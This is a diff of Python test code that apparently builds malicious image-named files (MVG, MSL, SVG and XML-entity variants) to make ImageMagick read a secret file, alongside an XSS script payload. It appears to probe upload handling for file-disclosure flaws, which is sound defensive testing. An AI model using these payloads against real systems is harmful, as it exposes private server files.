@@ -18,8 +18,9 @@ PAYLOAD = b"<script>alert('PAYLOAD')</script>"
 def scripts(secret: str) -> Mapping[str, bytes]:
     """Files that ImageMagick would take orders from, each to read the file `secret`, under an image's name."""
     texts = {
-        "mvg.png": f"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'label:@{secret}'\npop graphic-context\n",
-        "msl.jpg": f'<?xml version="1.0"?><image><read filename="label:@{secret}"/><write filename="{secret}.out"/></image>',
+        "mvg.png": f"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 9,9 'label:@{secret}'",
+        "msl.jpg": f'<?xml version="1.0"?><image><read filename="label:@{secret}"/>'
+        f'<write filename="{secret}.out"/></image>',
         "svg.png": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
         f'<image xlink:href="text:{secret}" width="64" height="64"/></svg>',
         "entity.png": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]><svg>&x;</svg>',
